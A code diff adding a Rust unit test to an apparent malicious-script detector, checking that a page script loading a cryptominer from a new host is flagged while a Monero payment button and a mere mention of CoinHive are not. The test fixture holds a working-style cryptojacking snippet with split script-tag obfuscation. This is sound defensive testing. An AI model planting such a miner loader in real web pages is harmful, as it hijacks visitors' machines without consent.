@@ -994,6 +994,34 @@ mod tests {
         assert!(!v.reasons.iter().any(|r| r.contains(SIGNED)), "{v:?}");
     }
 
+    /// A hosted miner's script written into the page from a new host is cryptojacking
+    /// whatever the model says; a payment button that names Monero and loads its own
+    /// script is not, nor is the miner's name alone.
+    #[test]
+    fn a_miner_loaded_from_a_new_host_is_a_signature() {
+        const SIGNED: &str = "a cryptominer's script loaded from a new host (cryptojacking)";
+        let miner = r#"(function () {
+            document.write("<script src='https://cdn.invalid/lib/m.js?r=" + Math.random() + "'></scr" + "ipt>");
+            window.addEventListener("load", function () { new CoinHive.Anonymous("k3y", { throttle: 0.3 }).start(); });
+        })();"#;
+        let v = classify("x.js", &analyse(miner), None, Context::default());
+        assert!(
+            v.malicious && v.reasons.iter().any(|r| r.contains(SIGNED)),
+            "{v:?}"
+        );
+        for benign in [
+            r#"(function () { var s = document.createElement("script"); s.src = "https://pay.example.org/button.js";
+               document.body.appendChild(s); document.getElementById("pay").title = "Pay with Monero"; })();"#,
+            r#"(function () { var label = "CoinHive was a miner"; document.title = label; })();"#,
+        ] {
+            let v = classify("x.js", &analyse(benign), None, Context::default());
+            assert!(
+                !v.reasons.iter().any(|r| r.contains(SIGNED)),
+                "{benign}: {v:?}"
+            );
+        }
+    }
+
     /// A sign-in form drawn by a script is a fake form as a card form is.
     #[test]
     fn a_drawn_password_form_is_a_fake_form() {
